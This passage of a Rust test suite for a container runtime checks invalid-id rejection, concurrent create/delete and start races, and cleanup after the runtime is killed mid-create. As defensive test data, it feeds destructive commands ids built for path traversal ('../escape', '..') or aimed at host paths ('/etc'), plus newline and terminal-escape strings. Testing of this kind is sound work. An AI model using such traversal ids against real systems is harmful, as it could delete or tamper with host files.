    let b = env.bundle();
    b.write_config();
    let long = "a".repeat(1025);
    let destructive = ["..", "../canary-ids", ".", "../escape"];
    for id in destructive {
        for args in [
            vec!["delete", "--force", id],
            vec!["delete", id],
            vec!["create", "--bundle", b.dir.to_str().unwrap(), id],
            vec!["kill", id, "KILL"],
            vec!["start", id],
        ] {
            let out = env.rt(&args);
            out.failed().stderr_mentions(&["invalid container id"]);
        }
    }
    for id in [
        "/",
        "/etc",
        "a\nb",
        "a\u{1b}[2Jb",
        "tab\tid",
        long.as_str(),
        "a b",
        "",
    ] {
        for args in [vec!["state", id], vec!["delete", "--force", id]] {
            if args[0] == "delete" && id.starts_with('/') {
                continue; // never aim a destructive command at a host path
            }
            let out = env.rt(&args);
            out.failed();
        }
    }
    assert_canary_dir(&canary);
    assert!(env.root.is_dir());
    assert!(!env.tmp.join("escape").exists());
    assert!(b.rootfs().join("bin/busybox").exists());
}

// ---------------------------------------------------------------------------------------
// Concurrency and crashes.
// ---------------------------------------------------------------------------------------

/// Several `create` and `delete --force` of one id race each other, round after round.
/// Whatever wins, every command ends normally, `state` never sees a torn state file, and
/// a final `delete --force` leaves no process, mount, state dir or cgroup.
///
/// Defense: the per-container flock (state.rs), the exclusive mkdir of the state dir and
/// atomic state writes. Switch the lock off (make `ContainerDir::lock_with` skip `flock`):
/// delete removes a container mid-create, and the round leaks a cgroup or a process.
#[test]
fn concurrent_create_and_delete_of_one_id() {
    let Some(env) = Env::new() else { return };
    let mut b = env.bundle();
    b.args(&["sleep", "100"]);
    b.write_config();
    let rt = runtime();
    for round in 0..5 {
        let mut handles = Vec::new();
        for i in 0..6 {
            let rt = rt.clone();
            let root = env.root.clone();
            let dir = b.dir.clone();
            let id = b.id.clone();
            let tmp = env.tmp.clone();
            handles.push(std::thread::spawn(move || {
                let mut cmd = Command::new(&rt);
                cmd.arg("--root").arg(&root).current_dir(&tmp);
                if i % 2 == 0 {
                    cmd.args(["create", "--bundle", dir.to_str().unwrap(), &id]);
                } else {
                    cmd.args(["delete", "--force", &id]);
                }
                // stderr to a file: a created container's init keeps the runtime's stdio.
                let errf = tmp.join(format!("race-{round}-{i}.stderr"));
                let status = cmd
                    .stdin(Stdio::null())
                    .stdout(Stdio::null())
                    .stderr(fs::File::create(&errf).unwrap())
                    .status()
                    .unwrap();
                (i, status, fs::read_to_string(&errf).unwrap_or_default())
            }));
            let st = env.rt(&["state", &b.id]);
            if st.success() {
                st.json();
            } else {
                st.stderr_mentions(&[&b.id]);
            }
        }
        let mut created = 0;
        for h in handles {
            let (i, status, stderr) = h.join().unwrap();
            assert!(
                status.code().is_some(),
                "round {round}: command {i} died of a signal: {stderr}"
            );
            assert!(!stderr.contains("panicked"), "round {round}: {stderr}");
            if i % 2 == 0 && status.success() {
                created += 1;
            }
        }
        assert!(created <= 3);
        env.rt(&["delete", "--force", &b.id]).ok();
        let leaks = env.leaks(&b);
        assert!(leaks.is_empty(), "round {round} left: {leaks:#?}");
    }
}

/// Two `start`s of one created container at once: exactly one starts it; the other is told,
/// promptly, that the container is already running.
///
/// Defense: every command that changes a container holds an exclusive flock on its state
/// dir (state.rs), so the second `start` waits for the first and then sees "running". A
/// startContainer hook that sleeps keeps the first `start` inside its critical section
/// (the fifo still exists) for a second. Switch it off by skipping the `flock` call in
/// `ContainerDir::lock_with`: the second `start` also finds the container "created", opens
/// the fifo, gets no byte (the first took it) and waits until its 60 s limit, so this test
/// fails on its 20 s bound.
#[test]
fn concurrent_starts_of_one_container() {
    let Some(env) = Env::new() else { return };
    let mut b = env.bundle();
    b.args(&["sleep", "100"]);
    b.config_mut()["hooks"] =
        json!({"startContainer": [{"path": "/bin/sleep", "args": ["sleep", "1"]}]});
    env.create(&b).ok();
    let rt = runtime();
    let t0 = std::time::Instant::now();
    let handles: Vec<_> = (0..2)
        .map(|i| {
            let (rt, root, id, tmp) = (rt.clone(), env.root.clone(), b.id.clone(), env.tmp.clone());
            std::thread::spawn(move || {
                let errf = tmp.join(format!("start-{i}.stderr"));
                let mut child = Command::new(&rt)
                    .arg("--root")
                    .arg(&root)
                    .args(["start", &id])
                    .current_dir(&tmp)
                    .stdin(Stdio::null())
                    .stdout(Stdio::null())
                    .stderr(fs::File::create(&errf).unwrap())
                    .spawn()
                    .unwrap();
                let deadline = std::time::Instant::now() + Duration::from_secs(20);
                let status = loop {
                    if let Some(st) = child.try_wait().unwrap() {
                        break Some(st);
                    }
                    if std::time::Instant::now() > deadline {
                        let _ = child.kill();
                        let _ = child.wait();
                        break None;
                    }
                    std::thread::sleep(Duration::from_millis(20));
                };
                (status, fs::read_to_string(&errf).unwrap_or_default())
            })
        })
        .collect();
    let results: Vec<_> = handles.into_iter().map(|h| h.join().unwrap()).collect();
    for (status, stderr) in &results {
        assert!(status.is_some(), "a start hung for 20 s: {stderr}");
    }
    let ok = results
        .iter()
        .filter(|(s, _)| s.is_some_and(|s| s.success()))
        .count();
    assert_eq!(ok, 1, "exactly one start succeeds: {results:?}");
    let (_, loser) = results
        .iter()
        .find(|(s, _)| !s.is_some_and(|s| s.success()))
        .unwrap();
    assert!(
        loser.contains("running"),
        "the other start says the container is running: {loser}"
    );
    assert!(t0.elapsed() < Duration::from_secs(20));
    assert_eq!(env.status(&b.id), "running");
    env.rt(&["delete", "--force", &b.id]).ok();
    env.assert_no_leaks(&b);
}

/// The runtime is killed with SIGKILL during create: at a known moment (inside a
/// createRuntime hook that waits) and at random moments. `delete --force` then leaves no
/// process (init or hook), mount, state dir or cgroup directory.
///
/// Defenses: the state is recorded before anything is made (container.rs), the init dies
/// with its runtime (PR_SET_PDEATHSIG), so does a hook (hooks.rs), and delete removes what
/// the record names. Switch one off by removing the PR_SET_PDEATHSIG `pre_exec` in
/// hooks.rs: the hook's `sleep` survives the kill and the test reports it.
#[test]
fn kill_9_during_create_then_delete_force_leaves_nothing() {
    let Some(env) = Env::new() else { return };
    let rt = runtime();
    let spawn_create = |b: &Bundle| {
        b.write_config();
        Command::new(&rt)
            .arg("--root")
            .arg(&env.root)
            .args(["create", "--bundle", b.dir.to_str().unwrap(), &b.id])
            .current_dir(&env.tmp)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap()
    };
    // At a known moment: while the createRuntime hook runs.
    let mut b = env.bundle();
    b.args(&["sleep", "100"]);
    let marker = env.tmp.join("hook-started");
    b.config_mut()["hooks"] = json!({"createRuntime": [{
        "path": "/bin/sh",
        "args": ["sh", "-c", format!("touch {}; exec sleep 60", marker.display())]
    }]});
    let mut child = spawn_create(&b);
    assert!(wait_for_file(&marker, TIMEOUT), "the hook never ran");
    child.kill().unwrap();
    child.wait().unwrap();
    std::thread::sleep(Duration::from_millis(100));
    env.rt(&["delete", "--force", &b.id]).ok();
    env.assert_no_leaks(&b);
    let hook_left: Vec<_> = processes_of(None, Some(&env.tmp))
        .into_iter()
        .filter(|(pid, _)| {
            fs::read_to_string(format!("/proc/{pid}/cmdline"))
                .unwrap_or_default()
                .contains("sleep")
        })
        .collect();
    assert!(
        hook_left.is_empty(),
        "the hook outlived its runtime: {hook_left:?}"
    );

    // At random moments.
    let mut seed = u64::from(std::process::id()) ^ Instant::now().elapsed().as_nanos() as u64;
    let mut b = env.bundle();
    b.args(&["sleep", "100"]);
    for round in 0..10 {
        seed = seed
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        let delay = Duration::from_micros((seed >> 33) % 120_000);
        let mut child = spawn_create(&b);
        std::thread::sleep(delay);
        let _ = child.kill();
        let _ = child.wait();
        std::thread::sleep(Duration::from_millis(50));
        env.rt(&["delete", "--force", &b.id]).ok();
        let leaks = env.leaks(&b);
        assert!(
            leaks.is_empty(),
            "round {round} (kill after {delay:?}) left: {leaks:#?}"
        );
    }
}
